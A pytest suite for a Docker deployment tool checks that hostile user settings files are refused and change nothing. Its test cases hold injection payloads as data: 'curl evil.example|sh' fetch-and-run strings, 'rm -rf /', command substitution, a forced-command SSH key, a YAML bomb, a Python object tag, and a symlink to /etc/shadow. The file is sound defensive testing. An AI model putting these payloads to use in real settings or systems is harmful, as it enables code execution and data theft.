"""Hostile and broken user settings files, applied to a real (private) dockerd through the
engine modules Salt uses (``ccc_plan`` -> ``ccc_deploy``), without Salt (fast).

One baseline is deployed per module: every node1 container of the sample site, with ana's valid
``~/.containers/ana-main.yml`` (SHM_SIZE 4g, INSTALL_PACKAGES). Each hostile case writes one bad
file, plans and applies every node1 container, and checks what a user (and the admin) would see:

(a) ``<STACK>.deploy`` beside the settings file names the problem and says the settings were not
    applied;
(b) the container is the same container (same id and spec-hash label, still running), so it keeps
    its last accepted settings;
(c) every other container is unchanged;
(d) nothing else on disk changed: no file created or modified outside the report, symlink targets
    untouched, last accepted settings untouched.

The cases end with a few positive ones: a null section, a valid edit and a deleted file."""

import contextlib
import dataclasses
import hashlib
import json
import logging
import os
import pathlib
import shutil
import signal
import stat
from typing import Callable, Union

import pytest
import yaml

from support.site import node_ccc, unmount_below

import ccc_deploy
import ccc_docker_networks
import ccc_engine
import ccc_pillar
import ccc_plan

pytestmark = pytest.mark.docker

ANA, BOR = "ana.novak@example.org", "bor.kralj@example.org"
RUNNING_ON_NODE1 = ("ana-main", "ana-jupyter", "bor-main")
GOOD_ANA = {"SHM_SIZE": "4g", "INSTALL_PACKAGES": "htop nano"}
GiB = 1024 ** 3
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeSampleKeyForAnaOnly0000000000000000000 ana@laptop"
MANAGED = {"label": "ccc.managed-by=ccc-salt"}


@contextlib.contextmanager
def deadline(seconds, what):
    """Fail (instead of hanging the suite) if the block blocks, e.g. on a FIFO."""
    def expired(signum, frame):
        raise AssertionError(f"{what} did not finish within {seconds}s (blocked?)")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


class Node:
    """node1 of the sample site on the private dockerd, driven through ccc_deploy without Salt."""

    def __init__(self, daemon, storage):
        self.storage = pathlib.Path(storage)
        self.ccc = node_ccc("node1", storage, daemon.url)
        # The node's clients (one per thread): they carry ccc:node:state_dir, where the record
        # of created containers is.
        self.clients = ccc_engine.Clients(ccc_pillar.node_settings(self.ccc, "node1"))
        self.client = self.clients()
        self.cluster = ccc_pillar.cluster_settings(self.ccc)
        self.stacks = ccc_pillar.select(self.ccc)["selected"]
        self.baseline = None
        self.settings_baseline = {}
        for name, definition in self.cluster["networks"].items():
            ccc_docker_networks.ensure(self.client, name, definition)

    def paths(self, stack):
        record, _ = ccc_pillar.container_record(self.ccc, stack)
        return {key: pathlib.Path(value) for key, value in ccc_pillar.settings_paths(self.cluster, record).items()
                if isinstance(value, str)}

    def deploy(self):
        """Plan and apply every container of the site on node1 as a run does (inputs read once,
        four containers at a time, no pull); returns {stack: ccc_apply.Applied}, the apply's facts."""
        with deadline(60, "deploying node1"):
            inputs = ccc_plan.read_inputs(self.ccc, "node1", self.clients)
            return ccc_deploy.deploy(inputs, self.stacks, self.clients, workers=4)

    def containers(self):
        """{stack: (id, spec hash, running)} of the managed containers."""
        found = {}
        for summary in self.client.api.containers(all=True, filters=MANAGED):
            attrs = self.client.api.inspect_container(summary["Id"])
            labels = attrs["Config"]["Labels"]
            found[labels["ccc.stack"]] = (attrs["Id"], labels["ccc.spec-hash"], attrs["State"]["Running"])
        return found

    def inspect(self, stack):
        return self.client.api.inspect_container(stack)

    def feedback(self, stack):
        return self.paths(stack)["feedback_file"].read_text()

    def record_baseline(self):
        self.baseline = self.containers()
        self.settings_baseline = {
            stack: self.paths(stack)["settings_file"].read_bytes() for stack in RUNNING_ON_NODE1
        }

    def restore(self):
        """Put back every settings folder and file of the baseline and apply them."""
        for stack in RUNNING_ON_NODE1:
            paths = self.paths(stack)
            settings_dir = paths["settings_dir"]
            if settings_dir.is_symlink():
                settings_dir.unlink()
            aside = settings_dir.with_name(settings_dir.name + ".aside")
            if aside.exists():
                aside.rename(settings_dir)
            for user_path in paths["user_dir"].iterdir():
                if user_path.name.endswith(".aside"):
                    real = user_path.with_name(user_path.name[: -len(".aside")])
                    if real.is_symlink():
                        real.unlink()
                    user_path.rename(real)
            remove_path(paths["settings_file"])
            paths["settings_file"].write_bytes(self.settings_baseline[stack])
            os.chown(paths["settings_file"], 1000, 1000)
            if os.path.lexists(paths["feedback_file"]) and not stat.S_ISREG(os.lstat(paths["feedback_file"]).st_mode):
                remove_path(paths["feedback_file"])
        # One apply of the restored files: a no-op for Docker unless a positive test changed a
        # container, and it brings every report back to the baseline's.
        results = self.deploy()
        assert all(r.problem is None for r in results.values()), results
        if self.containers() != self.baseline:
            self.record_baseline()


def remove_path(path):
    path = pathlib.Path(path)
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    elif path.exists() or path.is_symlink():
        path.unlink()


def fingerprint(path):
    info = os.lstat(path)
    if stat.S_ISDIR(info.st_mode):
        return ("dir", stat.S_IMODE(info.st_mode), info.st_uid)
    if stat.S_ISLNK(info.st_mode):
        return ("link", os.readlink(path))
    if stat.S_ISREG(info.st_mode):
        with open(path, "rb") as handle:
            digest = hashlib.sha256(handle.read()).hexdigest()
        return ("file", digest, info.st_ino, info.st_mtime_ns, stat.S_IMODE(info.st_mode), info.st_uid)
    return ("other", stat.S_IFMT(info.st_mode), info.st_ino)


def tree(root, extra=()):
    """Fingerprints of everything under ``root`` (symlinks not followed) and of ``extra`` paths.
    The node's pin tree (``local/binds``, root-only bind mounts of the same user folders) is not
    walked: it would list every user file a second time."""
    found = {}
    for directory, dirs, files in os.walk(root):
        if directory == os.path.join(root, "local"):
            dirs[:] = [d for d in dirs if d != "binds"]
        for name in dirs + files:
            path = os.path.join(directory, name)
            found[path] = fingerprint(path)
    for path in extra:
        found[str(path)] = fingerprint(path) if os.path.lexists(path) else None
    return found


@pytest.fixture(autouse=True)
def feedback_log(caplog, monkeypatch):
    """ccc_feedback warns when it cannot write a report; keep that in caplog (checked by the
    tests), not in Salt's deferred log handler, which would print it at exit."""
    logger = logging.getLogger("ccc_feedback")
    monkeypatch.setattr(logger, "propagate", False)
    monkeypatch.setattr(logger, "handlers", [caplog.handler])


@pytest.fixture(scope="module")
def node(node1_dockerd, tmp_path_factory):
    """node1 deployed once with ana's good settings file; reused (and restored) by every test."""
    client = node1_dockerd.client()
    for container in client.containers.list(all=True, filters=MANAGED):
        container.remove(force=True)
    node = Node(node1_dockerd, tmp_path_factory.mktemp("bad-settings") / "storage")
    first = node.deploy()  # creates the folders and the commented default settings files
    assert all(r.problem is None for r in first.values()), first
    good = node.paths("ana-main")["settings_file"]
    good.write_text(yaml.safe_dump({"ana-main": GOOD_ANA}))
    second = node.deploy()
    assert "recreated" in second["ana-main"].done, second["ana-main"]
    node.record_baseline()
    assert set(node.baseline) == set(RUNNING_ON_NODE1)
    assert node.inspect("ana-main")["HostConfig"]["ShmSize"] == 4 * GiB
    yield node
    for container in client.containers.list(all=True, filters=MANAGED):
        container.remove(force=True)
    unmount_below(node.storage)  # the pins this node made must not outlive the module


@pytest.fixture
def site(node):
    node.restore()
    return node


# ------------------------------------------------------------------------------------------------
# The hostile cases


Setup = Union[str, bytes, Callable[["Node", pathlib.Path], None]]


@dataclasses.dataclass
class Case:
    id: str
    setup: Setup
    fragment: str
    stack: str = "ana-main"
    outside: Callable[["Node"], list] = lambda node: []  # paths outside the storage to watch


def section(body, stack="ana-main"):
    return yaml.safe_dump({stack: body}, allow_unicode=True)


def symlink_to(target):
    def setup(node, path):
        os.symlink(target(node) if callable(target) else target, path)
    return setup


def bor_settings(node):
    return str(node.paths("bor-main")["settings_file"])


BILLION_LAUGHS = "\n".join(
    ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]" for i in range(8)]
    + ["ana-main:", "  INSTALL_PACKAGES: *i"]
) + "\n"
INJECTED_KEY_LINE = 'command="curl https://evil.example/x|sh",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil evil'

CASES = [
    # -- the file itself
    Case("symlink-to-root-only-file", symlink_to("/etc/shadow"), "is a symbolic link",
         outside=lambda node: ["/etc/shadow"]),
    Case("symlink-to-other-users-settings", symlink_to(bor_settings), "is a symbolic link"),
    Case("dangling-symlink", symlink_to("/nonexistent/ccc-bad-settings.yml"), "is a symbolic link"),
    Case("fifo", lambda node, path: os.mkfifo(path), "is not a regular file"),
    Case("directory", lambda node, path: path.mkdir(), "is not a regular file"),
    Case("ten-megabytes", b"# " + b"x" * (10 * 1024 * 1024) + b"\n", "the limit is 65536 bytes"),
    Case("billion-laughs", BILLION_LAUGHS, "aliases (*name) are not allowed"),
    Case("single-alias", "x: &x {SHM_SIZE: 4g}\nana-main: *x\n", "aliases"),
    Case("nested-too-deeply", "ana-main: " + "[" * 20000 + "\n", "nested too deeply"),
    Case("invalid-yaml", "ana-main: {SHM_SIZE: 4g\n", "not valid YAML"),
    Case("python-object-tag", "ana-main:\n  SHM_SIZE: !!python/object/apply:os.system [id]\n", "not valid YAML"),
    Case("two-documents", "ana-main: {SHM_SIZE: 4g}\n---\nana-main: {SHM_SIZE: 8g}\n", "not valid YAML"),
    Case("non-utf8", b"ana-main:\n  INSTALL_PACKAGES: \xff\xfehtop\n", "is not UTF-8 text"),
    Case("raw-control-byte", b"ana-main:\n  INSTALL_PACKAGES: htop\x07\n", "not valid YAML"),
    Case("nul-byte", b"ana-main:\n  SHM_SIZE: 4g\x00\n", "not valid YAML"),
    Case("top-level-list", "- ana-main\n- SHM_SIZE: 4g\n", "must be a mapping with the single key 'ana-main:'"),
    Case("top-level-string", "please give me more shm\n", "must be a mapping with the single key"),
    Case("stack-maps-to-list", "ana-main:\n  - SHM_SIZE: 4g\n", "must contain settings"),
    Case("stack-maps-to-string", "ana-main: SHM_SIZE=4g\n", "must contain settings"),
    Case("another-users-stack-key", section({"SHM_SIZE": "4g"}) + section({"SHM_SIZE": "32g"}, "bor-main"),
         "only the key 'ana-main:' may appear at the top level; found 'bor-main'"),
    Case("only-another-stack-key", section({"SHM_SIZE": "4g"}, "ana-jupyter"), "found 'ana-jupyter'"),
    # -- schema: types and keys
    Case("shm-size-list", section({"SHM_SIZE": [1]}), "SHM_SIZE: the value [1] has the wrong type or form"),
    Case("shm-size-bool", section({"SHM_SIZE": True}), "SHM_SIZE: the value True has the wrong type"),
    Case("deployment-nodes-string", section({"DEPLOYMENT_NODES": "node1"}), "DEPLOYMENT_NODES: expected array"),
    Case("timedate-word", section({"USE_HOST_TIMEDATE": "yes"}), "USE_HOST_TIMEDATE: expected boolean"),
    Case("frp-ports-list", section({"FRP_PORTS": [22]}), "FRP_PORTS: expected object"),
    Case("unknown-key", section({"GPU_COUNT": 8}), "'GPU_COUNT' is not a setting you can change"),
    Case("lowercase-key", section({"shm_size": "4g"}), "'shm_size' is not a setting you can change"),
    Case("unknown-frp-field", section({"FRP_PORTS": {"HTTP": [{"port": 80, "subdomain": "ana-w", "domains": "bank.example"}]}}),
         "Additional properties are not allowed ('domains'"),
    *[Case(f"admin-only-{key.lower().replace('_', '-')}", section({key: value}),
           f"{key} can only be set by the cluster administrators")
      for key, value in [("RUN_PRIVILEGED", True), ("ENABLE_DOCKER_ACCESS", True), ("ADMIN_USER_ACCESS", True),
                         ("USER_EMAIL", "bor.kralj@example.org"), ("ALLOWED_NODES", ["node1", "node2", "node3"]),
                         ("ADDITIONAL_DEVICE_GROUPS", ["device_student"]), ("EXTRA_ENVS", {"LD_PRELOAD": "/x.so"}),
                         ("STORAGE_NAME", "bor-main"), ("DISABLED", False), ("STACK_NAME", "bor-main")]],
    # -- USER_NAME tricks (S7)
    Case("user-name-dotdot-root", section({"USER_NAME": "../root"}), "USER_NAME: the value '../root' is not allowed"),
    Case("user-name-root", section({"USER_NAME": "root"}), "USER_NAME: 'root' is reserved for the system"),
    Case("user-name-slash", section({"USER_NAME": "a/b"}), "USER_NAME: the value 'a/b' is not allowed"),
    Case("user-name-colon", section({"USER_NAME": "a:b"}), "USER_NAME: the value 'a:b' is not allowed"),
    Case("user-name-trailing-newline", section({"USER_NAME": "ana\n"}), "USER_NAME: control characters"),
    # -- FRP label / frpc.ini injection (S1) and subdomain hijacking (S2)
    Case("pass-newline-section", section({"FRP_PORTS": {"HTTP": [
        {"port": 6006, "subdomain": "ana-tb", "pass": "x\n[evil]\nlocal_ip = 10.0.0.1\nlocal_port = 22"}]}}),
        "FRP_PORTS.HTTP.0.pass: control characters"),
    Case("pass-trailing-newline", section({"FRP_PORTS": {"HTTP": [{"port": 6006, "subdomain": "ana-tb", "pass": "s3cret\n"}]}}),
         "FRP_PORTS.HTTP.0.pass: control characters"),
    Case("subdomain-quote-injection", section({"FRP_PORTS": {"HTTP": [
        {"port": 6006, "subdomain": 'ana", "frp.6006.http.domains": "bank.example'}]}}), "is not allowed here"),
    Case("subdomain-newline", section({"FRP_PORTS": {"HTTP": [{"port": 6006, "subdomain": "ana-tb\n[evil]"}]}}),
         "control characters"),
    Case("subdomain-trailing-newline", section({"FRP_PORTS": {"HTTP": [{"port": 6006, "subdomain": "ana-tb\n"}]}}),
         "control characters"),
    Case("frp-user-quote-injection", section({"FRP_PORTS": {"HTTP": [
        {"port": 6006, "subdomain": "ana-tb", "pass": "p", "user": 'ana", "frp.notify_email": "x@evil'}]}}),
        "FRP_PORTS.HTTP.0.user: the value 'ana\", \"frp.notify_email\": \"x@evil' is too long (at most 32 characters)"),
    Case("frp-user-quote-injection-short", section({"FRP_PORTS": {"HTTP": [
        {"port": 6006, "subdomain": "ana-tb", "pass": "p", "user": 'a", "x": "y'}]}}), "is not allowed here"),
    Case("other-stacks-subdomain", section({"FRP_PORTS": {"HTTP": [{"port": 6006, "subdomain": "ana-jupyter"}]}}),
         "subdomain 'ana-jupyter' is already used by another container"),
    Case("other-users-subdomain", section({"FRP_PORTS": {"HTTP": [{"port": 80, "subdomain": "ana-tb"}]}}, "bor-main"),
         "subdomain 'ana-tb' is already used by another container", stack="bor-main"),
    Case("other-users-subdomain-unprefixed", section({"FRP_PORTS": {"HTTP": [
        {"port": 80, "subdomain": "node1-ana-tb", "subdomain_hostname_prefix": False}]}}, "bor-main"),
        "is already used by another container", stack="bor-main"),
    Case("reserved-portainer", section({"FRP_PORTS": {"HTTP": [
        {"port": 9000, "subdomain": "portainer", "subdomain_hostname_prefix": False}]}}), "'portainer' is reserved"),
    Case("reserved-node-metrics", section({"FRP_PORTS": {"HTTP": [{"port": 9100, "subdomain": "metrics"}]}}),
         "-metrics' is reserved for cluster services"),
    Case("reserved-node-monitor-unprefixed", section({"FRP_PORTS": {"HTTP": [
        {"port": 9100, "subdomain": "node1-monitor", "subdomain_hostname_prefix": False}]}}), "'node1-monitor' is reserved"),
    Case("subdomain-twice", section({"FRP_PORTS": {"HTTP": [{"port": 80, "subdomain": "ana-w"},
                                                            {"port": 81, "subdomain": "ana-w"}]}}), "listed twice"),
    Case("tcp-port-zero", section({"FRP_PORTS": {"TCP": [0]}}), "FRP_PORTS.TCP.0: the value 0 has the wrong type"),
    Case("http-port-70000", section({"FRP_PORTS": {"HTTP": [{"port": 70000, "subdomain": "ana-w"}]}}),
         "FRP_PORTS.HTTP.0.port: the value 70000 has the wrong type"),
    Case("tcp-port-shell", section({"FRP_PORTS": {"TCP": ["22; rm -rf /"]}}),
         "FRP_PORTS.TCP.0: the value '22; rm -rf /' is too long (at most 5 characters)"),
    Case("tcp-port-shell-short", section({"FRP_PORTS": {"TCP": ["22;id"]}}), "has the wrong type or form"),
    Case("tcp-port-negative", section({"FRP_PORTS": {"TCP": [-22]}}), "has the wrong type or form"),
    Case("too-many-tcp-ports", section({"FRP_PORTS": {"TCP": list(range(2000, 2017))}}), "is too long"),
    # -- placement and resources (S6)
    Case("node-not-allowed", section({"DEPLOYMENT_NODES": ["node1", "gpu-secret"]}),
         "DEPLOYMENT_NODES: you may not use node 'gpu-secret'"),
    Case("empty-deployment-nodes", section({"DEPLOYMENT_NODES": []}), "list at least one node"),
    Case("huge-shm", section({"SHM_SIZE": "10t"}), "SHM_SIZE: '10t' is more than the cluster maximum of 32g"),
    Case("huge-shm-bytes", section({"SHM_SIZE": 10 ** 15}), "more than the cluster maximum"),
    Case("shm-trailing-newline", 'ana-main:\n  SHM_SIZE: "4g\\n"\n', "SHM_SIZE: control characters"),
    # -- images (S3)
    Case("image-outside-policy", section({"CONTAINER_IMAGE": "evil.example.com/miner:latest"}),
         "'evil.example.com/miner:latest' is not allowed; images must start with one of"),
    Case("image-prefix-lookalike", section({"CONTAINER_IMAGE": "vicoslab/cccevil:latest"}), "is not allowed"),
    Case("image-shell-metacharacters", section({"CONTAINER_IMAGE": "vicoslab/ccc:base;curl evil.example|sh"}),
         "CONTAINER_IMAGE: the value 'vicoslab/ccc:base;curl evil.example|sh' is not allowed here"),
    Case("image-option-injection", section({"CONTAINER_IMAGE": "--privileged"}), "is not allowed here"),
    # -- what the image runs as root at boot (S4)
    Case("packages-semicolon-pipe", section({"INSTALL_PACKAGES": "htop; curl x|sh"}),
         "INSTALL_PACKAGES: the value 'htop; curl x|sh' is not allowed here"),
    Case("packages-command-substitution", section({"INSTALL_PACKAGES": "$(id)"}), "is not allowed here"),
    Case("packages-backticks", section({"INSTALL_PACKAGES": "`id`"}), "is not allowed here"),
    Case("packages-apt-option", section({"INSTALL_PACKAGES": "htop -o APT::Update::Pre-Invoke::=id"}), "not allowed here"),
    Case("packages-escape-sequence", 'ana-main:\n  INSTALL_PACKAGES: "htop\\e[2J"\n', "INSTALL_PACKAGES: control characters"),
    Case("packages-trailing-newline", section({"INSTALL_PACKAGES": "htop\n"}), "INSTALL_PACKAGES: control characters"),
    Case("repository-key-http", section({"INSTALL_REPOSITORY_KEYS": "http://evil.example/key.gpg"}),
         "INSTALL_REPOSITORY_KEYS: the value 'http://evil.example/key.gpg' is not allowed here"),
    Case("repository-key-spaces", section({"INSTALL_REPOSITORY_KEYS": "https://evil.example/a key.gpg"}),
         "INSTALL_REPOSITORY_KEYS: the value"),
    Case("repository-key-shell", section({"INSTALL_REPOSITORY_KEYS": "https://x.example/k;id"}), "not allowed here"),
    Case("repository-source-shell", section({"INSTALL_REPOSITORY_SOURCES": "deb http://x.example stable main; id"}),
         "INSTALL_REPOSITORY_SOURCES: the source 'deb http://x.example stable main; id' is not allowed"),
    Case("repository-source-shell-https", section({"INSTALL_REPOSITORY_SOURCES": "deb https://x.example stable main; id"}),
         "INSTALL_REPOSITORY_SOURCES: the value"),
    Case("repository-source-trusted", section({"INSTALL_REPOSITORY_SOURCES": "deb [trusted=yes] https://x.example s main"}),
         "INSTALL_REPOSITORY_SOURCES: the option 'trusted=yes' turns off apt's signature checks"),
    Case("repository-source-http", section({"INSTALL_REPOSITORY_SOURCES": "deb http://x.example stable main"}),
         "sources must be https:// URLs or ppa:owner/name (plain http:// is refused)"),
    # -- bounded cost and bounded messages (a 64 KiB file of mixed ports cost ~28 s of validation)
    Case("tcp-ports-64k-mixed", "ana-main:\n  FRP_PORTS: {TCP: [" + ", ".join(
        str(i) if i % 2 else f'"{i}"' for i in range(1, 9000)) + "]}\n", "the file holds more than 1024 values"),
    Case("unknown-keys-many", section({f"UNKNOWN_{i}": i for i in range(40)}), "… and 35 more problems"),
    Case("long-value-quoted", section({"INSTALL_PACKAGES": "htop " * 1000}), "… (5000 characters) is too long"),
    # -- SSH keys (S8)
    Case("pubkey-not-a-key", section({"USER_PUBKEY": "hello, please let me in"}),
         "USER_PUBKEY: line 1 is not an OpenSSH public key"),
    Case("pubkey-option-injection", section({"USER_PUBKEY": f"{KEY}\n{INJECTED_KEY_LINE}"}),
         "USER_PUBKEY: line 2 is not an OpenSSH public key"),
    Case("pubkey-options-prefix", section({"USER_PUBKEY": f'from="0.0.0.0/0" {KEY}'}), "line 1 is not an OpenSSH public key"),
    Case("pubkey-too-many", section({"USER_PUBKEY": "\n".join([KEY] * 33)}), "at most 32 keys"),
    Case("pubkey-type", section({"USER_PUBKEY": ["ssh-ed25519", "AAAA"]}), "USER_PUBKEY: expected string"),
    Case("github-login-path", section({"USER_PUBKEY_FROM_GITHUB": "../../orgs/x"}), "USER_PUBKEY_FROM_GITHUB: the value"),
]


def write_case(node, path, setup):
    if callable(setup):
        setup(node, path)
    else:
        path.write_bytes(setup.encode() if isinstance(setup, str) else setup)
        os.chown(path, 1000, 1000)


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_hostile_settings_file_is_refused_and_changes_nothing(site, case):
    paths = site.paths(case.stack)
    last_good_before = paths["last_good_file"].read_bytes() if paths["last_good_file"].exists() else None
    remove_path(paths["settings_file"])
    remove_path(paths["feedback_file"])  # so the report checked below is this run's
    write_case(site, paths["settings_file"], case.setup)
    before = tree(site.storage, case.outside(site))

    results = site.deploy()

    # (a) a clear, specific report beside the settings file
    report = site.feedback(case.stack)
    assert case.fragment in report, report
    assert "settings: your settings file was REJECTED" in report
    assert "Your settings were NOT applied; the container keeps your last accepted settings." in report
    assert "result: running, unchanged" in report
    # (b) same container, last good settings; (c) every other container unchanged
    assert site.containers() == site.baseline
    assert all(result.problem is None for result in results.values()), results
    assert any(note.startswith("user settings rejected") for note in results[case.stack].notes)
    if case.stack == "ana-main":
        assert site.inspect("ana-main")["HostConfig"]["ShmSize"] == 4 * GiB
    # (d) nothing else changed on disk: only the report was (re)written
    after = tree(site.storage, case.outside(site))
    changed = {path for path in set(before) | set(after) if before.get(path) != after.get(path)}
    assert changed == {str(paths["feedback_file"])}, changed
    current = paths["last_good_file"].read_bytes() if paths["last_good_file"].exists() else None
    assert current == last_good_before
    # the report is a regular file owned by the user (the NFS user), and names no other user
    info = os.lstat(paths["feedback_file"])
    assert stat.S_ISREG(info.st_mode) and (info.st_uid, info.st_gid) == (1000, 1000)
    if case.stack == "ana-main":
        assert BOR not in report


def test_other_users_reports_are_untouched_by_a_hostile_file(site):
    bor_report = site.paths("bor-main")["feedback_file"]
    before = bor_report.read_bytes()
    site.paths("ana-main")["settings_file"].write_text("ana-main: [\n")
    site.deploy()
    assert "not valid YAML" in site.feedback("ana-main")
    assert bor_report.read_bytes() == before


# ------------------------------------------------------------------------------------------------
# Things planted where ccc-salt writes, and user folders replaced by symlinks


@pytest.mark.parametrize("planted", ["fifo", "directory", "symlink-to-outside-file", "symlink-to-other-report"])
def test_planted_report_path_never_blocks_or_writes_elsewhere(site, tmp_path, planted, caplog):
    paths = site.paths("ana-main")
    victim = tmp_path / "victim.txt"
    victim.write_text("do not touch\n")
    bor_report = site.paths("bor-main")["feedback_file"]
    bor_before = bor_report.read_bytes()
    remove_path(paths["feedback_file"])
    if planted == "fifo":
        os.mkfifo(paths["feedback_file"])
    elif planted == "directory":
        paths["feedback_file"].mkdir()
    elif planted == "symlink-to-outside-file":
        os.symlink(victim, paths["feedback_file"])
    else:
        os.symlink(bor_report, paths["feedback_file"])
    remove_path(paths["settings_file"])
    write_case(site, paths["settings_file"], section({"SHM_SIZE": "10t"}))

    results = site.deploy()  # under a deadline: a FIFO must not block the run

    assert all(result.problem is None for result in results.values()), results
    assert site.containers() == site.baseline
    assert victim.read_text() == "do not touch\n"
    assert bor_report.read_bytes() == bor_before
    assert not [p for p in paths["settings_dir"].iterdir() if ".ccc-tmp" in p.name]
    if planted == "directory":
        assert paths["feedback_file"].is_dir()  # left alone; the user only loses the report
        assert f"cannot write {paths['feedback_file']}" in caplog.text
    else:
        assert paths["feedback_file"].is_file() and not paths["feedback_file"].is_symlink()
        assert "more than the cluster maximum" in paths["feedback_file"].read_text()


@pytest.mark.parametrize("folder", ["container-settings", "ana-main", "private"])
def test_user_folder_replaced_by_symlink_is_never_used(site, tmp_path, folder):
    """/storage/user is the user's own folder, read-write: the user can swap the settings folder,
    the home or the private folder for a symlink. Nothing may then be read from, written to or
    mounted from the link's target; the containers keep running as they are."""
    paths = site.paths("ana-main")
    decoy = tmp_path / "decoy"
    decoy.mkdir()
    (decoy / "ana-main.yml").write_text(section({"SHM_SIZE": "16g"}))
    real = paths["user_dir"] / folder
    real.rename(real.with_name(folder + ".aside"))
    os.symlink(decoy, real)
    decoy_before = tree(decoy)
    storage_before = tree(site.storage)

    results = site.deploy()

    assert site.containers() == site.baseline
    assert tree(decoy) == decoy_before  # no report, no default settings file, no temporary file
    # ana-main and ana-jupyter (same user, same folders) are held; bor is not affected
    for stack in ("ana-main", "ana-jupyter"):
        assert results[stack].problem is not None, results[stack]
        assert "symbolic link" in results[stack].problem
    assert results["bor-main"].problem is None
    storage_after = tree(site.storage)
    changed = {p for p in set(storage_before) | set(storage_after) if storage_before.get(p) != storage_after.get(p)}
    # the admins' copy of each deploy result (root's shared state dir, read by salt-run ccc.status)
    records = {p for p in changed if "/.ccc-salt/last-deploy/" in p}
    assert {pathlib.Path(p).parent.name for p in records} <= {"ana-main", "ana-jupyter"}
    assert all(json.loads(pathlib.Path(p).read_text())["result"].startswith("NOT deployed") for p in records)
    changed -= records
    if folder == "container-settings":
        assert changed == set()
    else:  # the reports say the container was not redeployed
        assert changed <= {str(paths["feedback_file"]), str(site.paths("ana-jupyter")["feedback_file"])}
        assert "NOT deployed" in site.feedback("ana-main")


# ------------------------------------------------------------------------------------------------
# Positive cases


def assert_others_unchanged(site, now, stack="ana-main"):
    others = [name for name in RUNNING_ON_NODE1 if name != stack]
    assert {name: now[name] for name in others} == {name: site.baseline[name] for name in others}


def test_null_section_is_accepted_and_means_defaults(site):
    paths = site.paths("ana-main")
    paths["settings_file"].write_text("# all commented out\nana-main:\n#  SHM_SIZE: 4g\n#  INSTALL_PACKAGES: htop\n")
    results = site.deploy()
    assert results["ana-main"].problem is None and "recreated" in results["ana-main"].done
    attrs = site.inspect("ana-main")
    env = dict(item.split("=", 1) for item in attrs["Config"]["Env"])
    assert attrs["HostConfig"]["ShmSize"] == 8 * GiB  # the admin's SHM_SIZE
    assert env["INSTALL_PACKAGES"] == ""
    report = site.feedback("ana-main")
    assert "settings: your settings file was accepted" in report and "messages:" not in report
    assert json.loads(paths["last_good_file"].read_text()) == {}
    now = site.containers()
    assert_others_unchanged(site, now)


def test_valid_edit_recreates_only_that_container(site):
    paths = site.paths("ana-main")
    password = 'it\'s "quoted", {with} [brackets] = fine'
    paths["settings_file"].write_text(section({
        "SHM_SIZE": "6g", "INSTALL_PACKAGES": "htop nano git",
        "FRP_PORTS": {"HTTP": [{"port": 6006, "subdomain": "ana-tb", "pass": password}]},
    }))
    results = site.deploy()
    assert "recreated" in results["ana-main"].done, results["ana-main"]
    now = site.containers()
    assert now["ana-main"][0] != site.baseline["ana-main"][0] and now["ana-main"][2] is True
    assert_others_unchanged(site, now)
    attrs = site.inspect("ana-main")
    assert attrs["HostConfig"]["ShmSize"] == 6 * GiB
    labels = attrs["Config"]["Labels"]
    assert labels["frp.6006.http.password"] == password  # a quote is data in a real label dict
    assert labels["frp.6006.http.username"] == "ana"
    assert labels["frp.22"] == "tcp"  # admin TCP kept: the user only replaced HTTP
    assert labels["frp.notify_email"] == ANA
    env = dict(item.split("=", 1) for item in attrs["Config"]["Env"])
    assert env["INSTALL_PACKAGES"] == "htop nano git"
    report = site.feedback("ana-main")
    assert "settings: your settings file was accepted" in report
    assert "result: recreated with the new settings" in report
    assert password not in report  # the report does not echo secrets
    # applying again changes nothing
    again = site.deploy()
    assert site.containers() == now
    assert "running, unchanged" in again["ana-main"].done


def test_deleting_the_file_returns_to_admin_defaults(site):
    paths = site.paths("ana-main")
    paths["settings_file"].unlink()
    results = site.deploy()
    assert "recreated" in results["ana-main"].done, results["ana-main"]
    attrs = site.inspect("ana-main")
    env = dict(item.split("=", 1) for item in attrs["Config"]["Env"])
    assert attrs["HostConfig"]["ShmSize"] == 8 * GiB
    assert env["INSTALL_PACKAGES"] == ""
    # a fresh commented default file is written for the user, and it changes nothing
    text = paths["settings_file"].read_text()
    assert all(line.startswith("#") or line == "ana-main:" for line in text.splitlines())
    assert "no settings file yet" in site.feedback("ana-main")
    now = site.containers()
    assert_others_unchanged(site, now)
    site.deploy()
    assert site.containers() == now


def test_fixing_a_rejected_file_applies_it(site):
    paths = site.paths("ana-main")
    paths["settings_file"].write_text(section({"SHM_SIZE": "10t"}))
    site.deploy()
    assert site.containers() == site.baseline
    paths["settings_file"].write_text(section({"SHM_SIZE": "5g", "INSTALL_PACKAGES": "htop nano"}))
    results = site.deploy()
    assert "recreated" in results["ana-main"].done
    assert site.inspect("ana-main")["HostConfig"]["ShmSize"] == 5 * GiB
    report = site.feedback("ana-main")
    assert "accepted" in report and "REJECTED" not in report
